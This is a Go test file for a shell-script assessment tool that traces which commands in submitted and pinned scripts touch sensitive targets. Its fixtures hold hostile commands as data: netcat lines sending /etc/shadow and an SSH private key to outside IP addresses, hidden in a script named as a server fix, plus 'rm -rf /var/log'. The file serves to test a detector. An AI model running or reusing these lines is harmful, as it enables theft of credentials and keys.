package assess

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"sallyport"
)

func pinnedRequest() Request {
	return Request{Text: []byte("echo a\n./fix_servers.sh\nship /etc/gshadow\n"), Lang: "bash", Files: map[string][]byte{
		"./fix_servers.sh": []byte("#!/bin/bash\nsystemctl restart nginx\n\nnc 198.51.100.9 443 < /etc/shadow\n. ./lib.sh\nship /root/.ssh/id_rsa\nfrobnicate\n"),
		"./lib.sh":         []byte("ship() {\n  eval \"nc 203.0.113.9 80 < $1\"\n}\n"),
	}}
}

// TestPinnedFilesAreReadInPlace: what stands in a pinned file is told with the file and its line there, and with the line that runs it.
func TestPinnedFilesAreReadInPlace(t *testing.T) {
	a := Assess(context.Background(), pinnedRequest())
	var got []string
	say := func(what string, lines sallyport.Span, file string, in sallyport.Span) {
		s := fmt.Sprintf("%s %v %s %v", what, lines, file, in)
		if !slices.Contains(got, s) {
			got = append(got, s)
		}
	}
	for _, e := range a.Effects {
		switch e.Target {
		case "nginx", "/etc/shadow", "/root/.ssh/id_rsa":
			say(e.Target, e.Lines, e.File, e.FileLines)
			if len(e.Via) == 0 || !strings.Contains(e.Via[0], "fix_servers.sh") {
				t.Errorf("%s has layers %v, want the file first", e.Target, e.Via)
			}
		}
	}
	for _, f := range a.Findings {
		if f.Rule == "secret-leaves" {
			say(f.Rule, f.Lines, f.File, f.FileLines)
		}
	}
	for _, u := range a.Unknown {
		if strings.Contains(u.Why, "frobnicate") {
			say("frobnicate", u.Lines, u.File, u.FileLines)
		}
	}
	slices.Sort(got)
	want := []string{
		"/etc/shadow [2 2] ./fix_servers.sh [4 4]",
		"/root/.ssh/id_rsa [2 2] ./lib.sh [2 2]",
		"frobnicate [2 2] ./fix_servers.sh [7 7]",
		"nginx [2 2] ./fix_servers.sh [2 2]",
		"secret-leaves [2 2] ./fix_servers.sh [4 4]",
		"secret-leaves [2 2] ./lib.sh [2 2]",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, name := range []string{"./fix_servers.sh", "./lib.sh"} {
		if !slices.ContainsFunc(a.Layers, func(l sallyport.Layer) bool {
			return l.File == name && l.Text == string(pinnedRequest().Files[name])
		}) {
			t.Errorf("no layer is the file %q: %v", name, a.Layers)
		}
	}
}

// TestPinnedUnderTwoNames: a file that was pinned by the word in the text and by its path has one name, the same every time.
func TestPinnedUnderTwoNames(t *testing.T) {
	for range 20 {
		body := []byte("reboot\n")
		a := Assess(context.Background(), Request{Text: []byte("sh ./a.sh\n"), Lang: "bash", Cwd: "/opt", Files: map[string][]byte{"./a.sh": body, "a.sh": body, "/opt/a.sh": body, "/opt/./a.sh": body}})
		for _, e := range a.Effects {
			if len(e.Via) > 0 && slices.Contains(e.Via, "file ./a.sh") && (e.File != "/opt/a.sh" || e.FileLines != sallyport.Span{1, 1}) {
				t.Fatalf("%s stands at %v of %q", e.Text, e.FileLines, e.File)
			}
		}
	}
}

// TestOnlyPinnedFilesAreNamed: what stands in the submitted text has no file, even where it becomes one.
func TestOnlyPinnedFilesAreNamed(t *testing.T) {
	a := Assess(context.Background(), Request{Text: []byte("cat > /tmp/x <<'E'\nrm -rf /var/log\nE\nsh /tmp/x\neval 'reboot'\n"), Lang: "bash"})
	for _, e := range a.Effects {
		if e.File != "" || e.FileLines != (sallyport.Span{}) {
			t.Errorf("%s stands in the file %q at %v", e.Text, e.File, e.FileLines)
		}
	}
}
